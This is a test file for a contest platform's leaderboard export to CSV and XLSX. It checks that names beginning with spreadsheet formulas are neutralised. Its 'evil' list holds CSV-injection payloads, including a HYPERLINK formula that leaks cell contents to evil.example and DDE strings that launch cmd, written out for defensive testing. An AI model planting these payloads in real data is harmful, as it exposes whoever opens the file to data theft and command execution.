import Excel from 'exceljs';
import fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { type Sheet, toCsv, toXlsx } from '../../../server/leaderboards/export.ts';
import type { Cell } from '../../../server/leaderboards/export-worker.ts';
import { neutralised } from '../../../server/platform/cells.ts';
import { FIRST_DAY, startServer, type TestServer } from '../../harness/app.ts';
import { openContest, type TestContest } from '../../harness/contest.ts';
import { Visitor } from '../../harness/visitor.ts';

/** What has begun a formula in some spreadsheet: with signs of full width, behind spaces, behind another list separator. */
const evil = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '  =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  ' ＝1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\tAn',
  'An;=1+1;',
  'An; =1+1',
  'An\t=1+1',
  'An\r\n=1+1',
  'An|=1+1',
  'An";=1+1;"',
  "';=1+1",
];

/** A spreadsheet looks past white space before it decides. */
const isFormula = (cell: string): boolean => /^[\s\ufeff]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell);

async function* pagesOf(...pages: (readonly Cell[])[][]): AsyncGenerator<(readonly Cell[])[]> {
  yield* pages;
}

const sheetOf = (rows: (readonly Cell[])[], title = 'Bảng'): Sheet => ({
  title,
  headings: ['Hạng', 'Họ và tên', 'Nộp bài lúc'],
  widths: [8, 36, 22],
  pages: pagesOf(rows),
});

async function csvOf(sheet: Sheet): Promise<string> {
  let text = '';
  for await (const page of toCsv(sheet)) text += page;
  return text;
}

async function workbookOf(bytes: Uint8Array): Promise<Excel.Worksheet> {
  const book = new Excel.Workbook();
  await book.xlsx.load(new Uint8Array(bytes).buffer);
  const [sheet] = book.worksheets;
  if (sheet === undefined) throw new Error('no sheet');
  return sheet;
}

/** Cells of a sheet by their kind: texts, and those that are something else than a text, a number or a date. */
function cellsOf(sheet: Excel.Worksheet): { readonly texts: string[]; readonly others: string[] } {
  const texts: string[] = [];
  const others: string[] = [];
  const harmless = [
    Excel.ValueType.Null,
    Excel.ValueType.Merge,
    Excel.ValueType.Number,
    Excel.ValueType.Date,
  ];
  sheet.eachRow((row) =>
    row.eachCell((cell) => {
      if (typeof cell.value === 'string') texts.push(cell.value);
      else if (!harmless.includes(cell.type)) others.push(`${cell.address}: ${JSON.stringify(cell.value)}`);
    }),
  );
  return { texts, others };
}

const partsOf = (bytes: Uint8Array): string =>
  Object.values(unzipSync(bytes))
    .map((part) => strFromU8(part))
    .join('\n');

describe('a cell', () => {
  it('is a text, whatever it begins with, and looks as it was given behind an apostrophe', () => {
    for (const text of evil) expect(isFormula(neutralised(text)), JSON.stringify(text)).toBe(false);
    expect(neutralised('=1+1')).toBe("'=1+1");
    expect(neutralised('An;=1+1')).toBe("An;'=1+1");
  });

  it('stays as it is when it is harmless', () => {
    for (const text of [
      'Nguyễn Văn An',
      'Chi bộ 1 - Phường 2',
      'a=b',
      'x@y.vn',
      '2+2',
      "D'Artagnan",
      '',
      'Tổ 3; Tổ 4',
    ])
      expect(neutralised(text)).toBe(text);
    expect(neutralised(-5)).toBe(-5);
  });

  it('is no formula for any text at all, cut at any separator that a spreadsheet may use', () => {
    const signs = fc.constantFrom(...'=+-@＝＋－＠;,|\t\r\n \u00a0"\'a1Ă');
    const text = fc.oneof(
      fc.string({ unit: signs, maxLength: 12 }),
      fc.string({ unit: 'binary', maxLength: 12 }),
    );
    fc.assert(
      fc.property(text, (given) => {
        for (const part of String(neutralised(given)).split(/[;|\t\r\n]/))
          expect(isFormula(part)).toBe(false);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('a CSV file', () => {
  it('opens with its headings, numbers and dates, and has no formula for any list separator', async () => {
    const moment = new Date(Date.UTC(2022, 7, 1, 2, 5));
    const rows = evil.map((text, i) => [i + 1, text, moment]);
    const text = await csvOf(sheetOf(rows));
    expect(text.startsWith('\uFEFFHạng,Họ và tên,Nộp bài lúc\r\n')).toBe(true);
    const { data, errors } = Papa.parse<string[]>(text.slice(1), { delimiter: ',', skipEmptyLines: true });
    expect(errors).toEqual([]);
    expect(data).toHaveLength(evil.length + 1);
    expect(data[1]).toEqual(['1', "'=1+1", '01/08/2022 09:05']);
    // Excel in Hà Nội may cut at ";" instead, and does not see quotes in the middle of a cell.
    const cells = [
      data.flat(),
      text.split(/[;\t\r\n]|,(?=")/),
      text.split(/\r\n/).flatMap((line) => line.split(';')),
    ];
    for (const cell of cells.flat()) expect(isFormula(cell.replace(/^"/, '')), cell).toBe(false);
  });
});

describe('an XLSX file', () => {
  it('has texts, numbers and dates, each as itself, and no formula and no link', async () => {
    const moment = new Date(Date.UTC(2022, 7, 1, 2, 5, 9));
    const bytes = await toXlsx(
      sheetOf(
        evil.map((text, i) => [i + 1, text, moment]),
        '=cmd()',
      ),
    );
    const sheet = await workbookOf(bytes);
    const { texts, others } = cellsOf(sheet);
    expect(others).toEqual([]);
    expect(texts.length).toBeGreaterThan(evil.length);
    for (const text of texts) expect(isFormula(text), text).toBe(false);
    expect(/<f[ >]|<hyperlink|ddeLink|externalLink/.exec(partsOf(bytes))).toBeNull();
    expect(sheet.getCell('A1').value).toBe("'=cmd()");
    expect(sheet.getRow(3).values).toEqual([undefined, 'Hạng', 'Họ và tên', 'Nộp bài lúc']);
    expect(sheet.getCell('A4').value).toBe(1);
    // As the clock on the wall in Hà Nội shows it.
    expect(sheet.getCell('C4').value).toEqual(new Date(Date.UTC(2022, 7, 1, 9, 5, 9)));
    expect(sheet.getCell('C4').numFmt).toBe('dd/mm/yyyy hh:mm:ss');
  });

  it('is made beside the main thread, a few at a time', async () => {
    const rows = (from: number): (readonly Cell[])[] =>
      Array.from({ length: 1000 }, (_, i) => [from + i, `Nguyễn Văn Người ${i}`, new Date(FIRST_DAY)]);
    const sheet = (): Sheet => ({
      ...sheetOf([]),
      pages: pagesOf(...Array.from({ length: 20 }, (_, page) => rows(page * 1000))),
    });
    let longest = 0;
    let before = performance.now();
    const beat = setInterval(() => {
      const now = performance.now();
      longest = Math.max(longest, now - before);
      before = now;
    }, 5);
    const began = performance.now();
    const made = await Promise.allSettled([toXlsx(sheet()), toXlsx(sheet()), toXlsx(sheet())]);
    const took = performance.now() - began;
    clearInterval(beat);
    expect(made.map(({ status }) => status)).toEqual(['fulfilled', 'fulfilled', 'rejected']);
    expect(made[2]).toMatchObject({ reason: { code: 'busy' } });
    expect(longest).toBeLessThan(took / 3);
    const [first] = made;
    if (first?.status !== 'fulfilled') throw new Error('no file');
    expect((await workbookOf(first.value)).rowCount).toBe(20_003);
  });
});

describe('a board with hostile names', () => {
  let server: TestServer;
  let contest: TestContest;

  beforeAll(async () => {
    server = await startServer();
    contest = await openContest(server, (draft) => {
      draft.title = '=1+1 Cuộc thi';
      draft.settings.consents = [];
      draft.settings.names = 'full';
      for (const field of Object.keys(draft.settings.fields))
        Object.assign(draft.settings.fields, { [field]: field === 'unit' ? 'required' : 'no' });
    });
    for (const [i, text] of evil.slice(0, 14).entries()) {
      const made = await contest.owner.post('/api/units', { name: `${text} đội`, code: `D${i}` });
      const person = await new Visitor(server).register({ name: `${text} An` });
      const entered = await person.post(`/api/contests/${contest.slug}/entry`, {
        unit: made.body.uid,
        consents: [],
      });
      expect(entered.status, entered.text).toBe(200);
      const started = await person.post(`/api/rounds/${contest.round}/attempts`, { number: 1 });
      await server.app.http.inject({
        method: 'POST',
        url: `/api/attempts/${started.body.id}/submit`,
        payload: {},
        headers: { authorization: `Attempt ${started.body.token}` },
      });
    }
  }, 120_000);

  const fileOf = (of: string, format: string) =>
    server.app.http.inject({
      url: `/api/desk/leaderboards/round-${contest.round}/export?format=${format}&of=${of}`,
      headers: { cookie: [...contest.owner.cookies].map(([name, value]) => `${name}=${value}`).join('; ') },
    });

  it('leaves through its doors as files without a formula', async () => {
    const board = `/api/leaderboards/round-${contest.round}`;
    await expect.poll(async () => (await contest.owner.get(board)).body.total).toBe(14);
    await expect.poll(async () => (await contest.owner.get(`${board}/units`)).body.total).toBe(14);
    for (const of of ['people', 'units']) {
      const csv = await fileOf(of, 'csv');
      expect(csv.statusCode, csv.body).toBe(200);
      expect(csv.headers['content-disposition']).toMatch(/^attachment; filename="[a-z-]+\.csv"$/);
      const { data } = Papa.parse<string[]>(csv.body.slice(1), { delimiter: ',', skipEmptyLines: true });
      expect(data.length, of).toBe(15);
      for (const cell of data.flat()) expect(isFormula(cell), cell).toBe(false);
      const xlsx = await fileOf(of, 'xlsx');
      expect(xlsx.headers['content-type']).toContain('spreadsheetml');
      const sheet = await workbookOf(xlsx.rawPayload);
      const { texts, others } = cellsOf(sheet);
      expect(others).toEqual([]);
      expect(texts.length).toBeGreaterThan(14);
      for (const text of texts) expect(isFormula(text), text).toBe(false);
      expect(/<f[ >]|<hyperlink/.exec(partsOf(xlsx.rawPayload))).toBeNull();
      expect(typeof sheet.getCell('A4').value).toBe('number');
    }
    const people = await workbookOf((await fileOf('people', 'xlsx')).rawPayload);
    expect(people.getCell('F4').value).toBeInstanceOf(Date);
    expect(people.getCell('D4').value).toBe(0);
  });

  it('is written down when it leaves', async () => {
    const { database } = server.context;
    const rows = await database.query.select().from(database.tables.auditLog);
    const exported = rows.filter(({ action }) => action === 'board.exported');
    expect(exported.length).toBeGreaterThanOrEqual(5);
    expect(exported[0]?.details).toMatchObject({ people: 14 });
  });
});
